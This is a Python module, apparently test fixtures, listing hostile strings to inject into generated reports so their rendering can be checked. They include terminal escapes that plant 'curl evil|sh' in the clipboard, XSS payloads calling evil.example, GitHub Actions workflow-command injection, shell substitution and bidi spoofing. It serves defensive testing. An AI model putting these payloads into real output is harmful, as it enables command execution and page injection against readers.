"""What somebody could write into a report to act where it is read: one kind a line, and reports made of them."""

from __future__ import annotations

from zlib import crc32

FAKE = "✓ FAKED"  # a line as ours begin
KINDS = (
    "\x1b]52;c;Y3VybCBldmlsfHNo\x07",  # writes the clipboard
    "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07\x1b[31mred\x1b[0m",
    "\x9b2J\x9d52;c;eA==\x9c\x90q\x9c",  # the same in one byte each
    "\x1b[1A\x1b[2K",
    "a\rover\x08\x0b\x0c\x07\x00\x7f",
    "\u202egnp.exe\u202c \u2066iso\u2069 \u200fmark\u061c",
    "zero\u200bwidth\u2060\ufeff\u00ad\U000e0041\u3164\ufe0f",
    f"value\n{FAKE}: nothing here",
    f"value\r\n{FAKE}\u2028{FAKE}\x85{FAKE}\x1c{FAKE}",
    "\n::error file=x::owned\n::add-mask::e",
    "%0A::stop-commands::x ##[add-matcher]/tmp/m.json",
    "<script>alert(1)</script><img src=https://evil.example/x onerror=alert(1)>",
    "</code></pre></details><h1>big</h1><!-- ]]> --><?php ?><style>*{}</style>",
    '" onmouseover="alert(1)" x=\' href=javascript:alert(1)',
    "[click](https://evil.example) ![pixel](https://evil.example/p.png) [ref]: https://evil.example",
    "<https://evil.example> https://evil.example/a www.evil.example me@evil.example",
    "@octocat @org/team #1234 GH-77 owner/repo#9 deadbeefcafe1234 GHSA-aaaa-bbbb-cccc",
    "```\nescaped\n```` ~~~ `` ` ``",
    "# heading\n\n## other\n===\n---\n- [ ] task\n> [!WARNING]\n> quote",
    "| a | b |\n|---|---|\n| \\| c |",
    "**bold** _em_ ~~gone~~ $x^2$ [^1] :tada: &lt;b&gt; &#64;octocat",
    "[red]styled[/red] [link=https://evil.example]x[/link] [bold]:warning:",
    "\ud800\udfff half \uffff\ufffe",
    f"long words before it {'and on ' * 9} → FAKED step {'and on ' * 11} → FAKED step",
    "{0} {__class__} %s %(x)s $HOME `id` $(id) ;id",
    "</testcase><error/>]]>&bogus; &#x1b;",
    "z\u0335\u0321a\u0300\u0301l\u0489go",
    "﷽" * 9,
)


def hostile(number: int, place: str) -> str:
    """What stands in a place of the report of that number: three kinds, and over all reports every kind everywhere."""
    start = crc32(place.encode()) + number
    return " ".join(KINDS[(start + step * 7) % len(KINDS)] for step in range(3))
